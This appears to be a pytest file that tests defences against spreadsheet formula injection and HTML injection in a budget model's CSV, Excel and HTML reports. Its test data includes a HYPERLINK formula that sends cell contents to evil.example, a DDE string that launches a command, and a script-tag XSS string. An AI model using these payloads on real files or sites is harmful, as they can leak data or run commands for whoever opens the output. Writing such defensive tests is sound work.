"""Hostile text cannot become a spreadsheet formula (model/report/output.py,
model/report/workbook.py) and the HTML report escapes it (model/report/html.py).

Scenario text beginning with ``=``, ``+``, ``-`` or ``@`` (``=HYPERLINK(…)``,
``=cmd|' /C calc'!A0``) used to reach ``budget.xlsx`` as a formula and CSV cells as is
(CWE-1236). The one sanitiser, :func:`neutralise_text`, prefixes such text with a single
quote, as OWASP's "CSV Injection" page recommends; both writers use it.
"""

from __future__ import annotations

import csv
import html

import pandas as pd
import pytest
from openpyxl import load_workbook

from model import apply_variant, run_batch
from model.core.units import Unit
from model.report.output import FORMULA_TRIGGERS, neutralise_table, neutralise_text, write_csv
from model.report.report import REPORT_FILE, attach_report
from model.report.workbook import write_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_beginning_with_a_trigger_gets_a_leading_quote(text):
    assert neutralise_text(text) == "'" + text


@pytest.mark.parametrize("value", ["基础研究", "a=b", "note - 1", "", -5, -0.5, 3, None])
def test_other_values_are_unchanged(value):
    assert neutralise_text(value) == value


def _hostile_table() -> pd.DataFrame:
    index = pd.MultiIndex.from_tuples([("=evil()", 2025), ("safe", 2026)], names=["item", "year"])
    return pd.DataFrame(
        {
            "name": ["@SUM(A1)", "ok"],
            "+plus": ["-1+2", "fine"],
            "amount_yuan": [-5.0, 3.0],
            "kind": pd.Categorical(["=x", "y"]),
        },
        index=index,
    )


def test_the_table_sanitiser_reaches_cells_columns_index_and_categories():
    table = _hostile_table()
    safe = neutralise_table(table)
    assert list(safe["name"]) == ["'@SUM(A1)", "ok"]
    assert list(safe["'+plus"]) == ["'-1+2", "fine"]
    assert list(safe["kind"].astype(str)) == ["'=x", "y"]
    assert list(safe.index.get_level_values("item")) == ["'=evil()", "safe"]
    assert list(safe["amount_yuan"]) == [-5.0, 3.0]  # numbers stay numbers
    assert list(table["name"]) == ["@SUM(A1)", "ok"]  # the input is not changed


def test_no_csv_cell_begins_with_a_formula_trigger(tmp_path):
    path = tmp_path / "hostile.csv"
    write_csv(_hostile_table(), path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    text = [c for c in cells if c and not _is_number(c)]
    assert text and not [c for c in text if c.startswith(FORMULA_TRIGGERS)], cells
    assert "-5" in cells  # a negative amount is written as a number


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_workbook_cell_is_a_formula(tmp_path):
    path = tmp_path / "hostile.xlsx"
    write_workbook({"=sheet": _hostile_table()}, path, Unit.YUAN)
    cells = [cell for row in load_workbook(path).active.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {"'@SUM(A1)", "'-1+2", "'=evil()"} <= texts


@pytest.fixture(scope="module")
def hostile_run(baseline, tmp_path_factory):
    """A run of the baseline whose titles, description and a basis are hostile text."""
    item = next(iter(baseline.items))
    uptake = baseline.items[item].assumptions.uptake.model_dump(by_alias=True, exclude_none=True)
    uptake.pop("first_year", None)
    variant = apply_variant(
        baseline,
        {
            "title_zh": HOSTILE[0],
            "title_en": "<script>alert('x')</script> & =1+1",
            "description": HOSTILE[1],
            "items": {item: {"uptake": {**uptake, "basis": "@SUM(9,9) </td><b>bold</b>"}}},
        },
    )
    out = tmp_path_factory.mktemp("hostile") / "run"
    output = run_batch(variant, draws=200, seed=3, out_dir=out, progress=False, write_draws=False)
    attach_report(output, variant, Unit.WAN)
    return out


def test_a_hostile_scenario_writes_no_formula_into_the_workbook(hostile_run):
    book = load_workbook(hostile_run / "budget.xlsx")
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_TRIGGERS)]
    assert "'" + HOSTILE[0] in texts  # the manifest sheet's title, as text


def test_a_hostile_scenario_writes_no_formula_into_a_csv(hostile_run):
    for path in hostile_run.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        hostile = [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not _is_number(c)]
        assert not hostile, (path.name, hostile)
    assumptions = (hostile_run / "assumptions.csv").read_text(encoding="utf-8-sig")
    assert "'@SUM(9,9)" in assumptions


def test_the_html_report_escapes_hostile_text(hostile_run):
    page = (hostile_run / REPORT_FILE).read_text(encoding="utf-8")
    assert "<script>alert" not in page and "<b>bold</b>" not in page
    assert html.escape("<script>alert('x')</script>") in page
    assert "&lt;/td&gt;&lt;b&gt;bold&lt;/b&gt;" in page
